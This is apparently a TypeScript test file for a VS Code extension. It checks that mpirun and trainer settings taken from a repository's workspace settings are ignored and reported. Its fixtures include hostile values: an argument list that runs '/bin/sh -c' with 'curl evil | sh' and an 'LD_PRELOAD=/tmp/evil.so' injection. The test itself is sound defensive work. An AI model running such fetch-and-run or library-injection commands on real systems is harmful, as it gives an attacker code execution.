// The settings that choose what runs (trainerPath, mpirunPath, mpirunArgs)
// come from user settings or their defaults, never from a workspace:
// machineValue over inspect()-shaped objects, as readSettings calls it.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { ignoredWarning, machineValue } from '../extension/machineSettings';

const strings = (v: unknown): v is string[] => Array.isArray(v) && v.every((a) => typeof a === 'string');
const path = (v: unknown): v is string => typeof v === 'string' && v.trim() !== '';
// What a repository's .vscode/settings.json would set to run a program of its own.
const HOSTILE = [':', '-n', '1', '/bin/sh', '-c', 'curl evil | sh'];

describe('machine settings', () => {
  test('workspace and user values both set: the user value wins, the workspace one is reported', () => {
    const r = machineValue({ defaultValue: [], globalValue: ['--oversubscribe'], workspaceValue: HOSTILE }, strings);
    assert.deepEqual(r, { value: ['--oversubscribe'], from: 'user settings', ignored: HOSTILE });
    const f = machineValue({ defaultValue: '', globalValue: '/opt/mpi/bin/mpirun', workspaceFolderValue: '/tmp/x' }, path);
    assert.deepEqual(f, { value: '/opt/mpi/bin/mpirun', from: 'user settings', ignored: '/tmp/x' });
  });

  test('only a workspace value: the default', () => {
    assert.deepEqual(machineValue({ defaultValue: [], workspaceValue: ['-x', 'LD_PRELOAD=/tmp/evil.so'] }, strings), {
      value: [],
      from: 'default',
      ignored: ['-x', 'LD_PRELOAD=/tmp/evil.so'],
    });
    // An empty default path means "the built-in one": no value at all.
    assert.deepEqual(machineValue({ defaultValue: '', workspaceFolderValue: '/tmp/trainer' }, path), {
      value: undefined,
      from: 'default',
      ignored: '/tmp/trainer',
    });
  });

  test('a workspace value equal to the one used is not reported; an invalid user value falls back to the default', () => {
    assert.deepEqual(machineValue({ defaultValue: [], globalValue: ['-v'], workspaceValue: ['-v'] }, strings), {
      value: ['-v'],
      from: 'user settings',
    });
    assert.deepEqual(machineValue({ defaultValue: [], globalValue: ['-v', 3] }, strings), { value: [], from: 'default' });
    assert.deepEqual(machineValue(undefined, strings), { value: undefined, from: 'default' });
  });

  test('the warning names the setting and what was ignored', () => {
    const w = ignoredWarning('trainscope.mpirunArgs', HOSTILE);
    assert.match(w, /^trainscope\.mpirunArgs is set in workspace settings to \[":","-n","1","\/bin\/sh"/);
    assert.match(w, /ignores that/);
  });
});
